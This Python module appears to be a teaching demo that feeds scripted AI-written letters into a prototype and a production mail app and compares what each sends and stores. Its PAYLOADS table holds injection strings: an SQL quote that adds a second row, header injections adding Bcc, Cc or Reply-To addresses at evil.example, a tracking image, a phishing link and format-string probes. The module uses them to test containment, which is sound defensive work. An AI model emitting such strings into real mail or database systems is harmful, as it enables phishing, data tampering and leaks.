"""What if the model says this: a letter that an app sends and stores, in two apps.

    what the model writes -> both apps, a post room each -> PairScene -> view

An app takes ``(client, member, db, mailbox)``, as ``post_room`` has them. The words are scripted:
what a real model would write is not the question, what the app does with it is.
"""

from collections.abc import Mapping
from types import MappingProxyType

from labkit.arguments import function, whole
from labkit.contrast.post_room import NOOR, App, Letter, Posted, posted
from labkit.views import PairScene, PairSide, Provenance, Step, View, Who, choice, draw_pair, toggle
from labkit.views.figures import ShareRow
from labkit.views.words import number

GOOD = "Your fog machine\n\nDear Noor, it is due back on Saturday. We are open until 18:00."
PAYLOADS: Mapping[str, str] = MappingProxyType(
    {
        "a quote in SQL": "Your loan\n\nThank you.'), ('m-2', 'You owe 900 crowns.",
        "an image from elsewhere": 'Your loan\n\nThank you. <img src="//evil.example/p.gif?m=1">',
        "a line break and Bcc": "Your loan\nBcc: all@evil.example\n\nDear Noor, pay here.",
        "another member's name": "Your loan\n\nDear Noor, Kofi has not brought his back either.",
        "nothing at all": " ",
        "40,000 characters": "Your loan\n\n" + " ".join(["Please bring it."] * 2_400),
        "a line break and Cc": "Your loan\nCc: all@evil.example\n\nDear Noor, pay here.",
        "a line break and Reply-To": "Your loan\nReply-To: desk@evil.example\n\nPlease answer.",
        "a link": 'Your loan\n\nPlease <a href="//evil.example/pay">pay the fee here</a>.',
        "a format field": "Your loan\n\nDear {member.__class__}, %s ${x}",
    }
)
"""Ten things that must stay in the app's hands; what the model writes comes from outside."""
BENIGN = (
    GOOD,
    "Your drill\n\nDear Noor, it's due on Saturday.",
    "Your ladder\n\nThe fee is 30 crowns – or 15 with the concession rate.",
    "Tu taladro\n\n¿Puedes venir el sábado? Cuesta 5 coronas.",
    "Your bat detector\n\nIs it quiet? Drop it at the desk, or select another day: both are fine.",
)
"""Five letters that somebody waits for."""
MENU = ("a good letter", *list(PAYLOADS)[:6])
LONGEST_SHOWN = 100
NOT_SHOWN = (
    "How often a real model writes any of these, and what brings it to: a poisoned note, a long "
    "conversation, chance. The words are scripted."
)


def letters(prototype: App, production: App, *, seed: int = 7) -> View:
    """Let the model write something else, and show what goes out and what is stored.

    Args:
        prototype: Shown left; takes ``(client, member, db, mailbox)``.
        production: Shown right; the same.
        seed: The same seed gives the same bytes.
    """
    for name, app in {"prototype": prototype, "production": production}.items():
        function(name, app, "client", "member", "db", "mailbox")
    whole("seed", seed, "The same seed must give the same bytes.")

    def scene(says: str, released: bool) -> PairScene:
        words = PAYLOADS.get(says, GOOD)
        plain = posted(prototype, words, released=released, seed=seed)
        careful = posted(production, words, released=released, seed=seed)
        return PairScene(
            finding=f"The prototype {verb(plain)}; production {verb(careful)}.",
            given=cut(words),
            given_label="The model writes",
            given_is_code=True,
            gets_label="What goes out, and what waits",
            provenance=Provenance("simulated", (f"seed {seed}", "the model's words are scripted")),
            not_shown=NOT_SHOWN,
            prototype=side("prototype", plain),
            production=side("production", careful),
        )

    menu = choice("What if the model says", list(MENU), value="a line break and Bcc")
    looked = toggle("Somebody lets go what waits")
    return View.of(scene, draw_pair, {"says": menu, "released": looked})


def letters_held(prototype: App, production: App, *, seed: int = 7) -> list[ShareRow]:
    """How many of ten payloads each app contains, and how many of five good letters it delivers.

    Contained: nobody else is reached, no row is somebody else's, nothing goes out unseen that is
    empty, far too long, or names another member; and the app returns.
    """
    rows = []
    apps: dict[Who, App] = {"prototype": prototype, "production": production}
    for who, app in apps.items():
        held = sum(not posted(app, one, seed=seed).harms for one in PAYLOADS.values())
        rows.append(ShareRow("payloads contained", held, len(PAYLOADS), who))
    for who, app in apps.items():
        out = sum(posted(app, one, seed=seed).is_delivered for one in BENIGN)
        rows.append(ShareRow("good letters delivered", out, len(BENIGN), who))
    return rows


def side(who: Who, done: Posted) -> PairSide:
    """What one app did with the words."""
    return PairSide(
        who=who,
        word=word(done),
        ending="bad" if done.harms else "ok",
        shown="\n\n".join((*map(mail, done.letters), *waiting(done))),
        is_code=True,
        steps=(who_reads(done), the_table(done), what_is_read(done)),
        facts={
            "letters out": number(len(done.letters)),
            "people reached": number(len({one for letter in done.letters for one in letter.to})),
            "rows": number(len(done.rows)),
        },
    )


def word(done: Posted) -> str:
    """How it ended, in a word or two."""
    if done.harms:
        return "crashed" if done.error else "did harm"
    if done.letters:
        return "went out"
    return "waits" if done.rows else "nothing sent"


def verb(done: Posted) -> str:
    """The same as a part of a sentence."""
    return done.harms[0] if done.harms else VERBS[word(done)]


VERBS: Mapping[str, str] = MappingProxyType(
    {
        "went out": "sends it to Noor alone",
        "waits": "keeps it until somebody has looked",
        "nothing sent": "sends nothing",
    }
)


def who_reads(done: Posted) -> Step:
    """Whom the letters reach."""
    others = [harm for letter in done.letters for harm in letter.strangers(NOOR)]
    if others:
        return Step("who is reached", "bad", ", ".join(dict.fromkeys(others)))
    return Step("who is reached", "ok", NOOR.email if done.letters else "nobody yet")


def the_table(done: Posted) -> Step:
    """Whose rows there are."""
    if done.error:
        return Step("what is stored", "bad", done.error)
    whose = [row.member_id for row in done.rows if row.member_id != NOOR.id]
    if whose:
        return Step("what is stored", "bad", f"a row for {whose[0]}, whom nobody wrote to")
    return Step("what is stored", "ok", "a row for Noor" if done.rows else "nothing")


def what_is_read(done: Posted) -> Step:
    """What somebody opens who gets a letter, or why nobody gets one."""
    harms = [harm for letter in done.letters for harm in letter.inside()]
    if harms:
        return Step("what is opened", "bad", ", ".join(harms))
    if done.letters:
        kind = "HTML" if done.letters[0].is_html else "plain text"
        return Step("what is opened", "ok", kind)
    why = "; ".join(row.reasons.replace("\n", "; ") for row in done.rows) or "there is nothing"
    return Step("what is opened", "na", why)


def mail(letter: Letter) -> str:
    """A letter as it goes over the wire, cut where it is long."""
    head = "\n".join(f"{name}: {value}" for name, value in letter.headers if name in SHOWN)
    return f"{head}\n\n{cut(letter.body)}"


SHOWN = ("To", "Cc", "Bcc", "Reply-To", "Subject", "Content-Type")


def waiting(done: Posted) -> list[str]:
    """The rows of an outbox that did not go out."""
    rows = (row for row in done.rows if row.state not in ("", "sent"))
    return [f"{row.state.upper()} for {row.member_id}\n\n{cut(row.body)}" for row in rows]


def cut(words: str) -> str:
    """The beginning of a text, and how long it is."""
    if len(words) <= LONGEST_SHOWN:
        return words
    return f"{words[:LONGEST_SHOWN]}… ({number(len(words))} characters)"
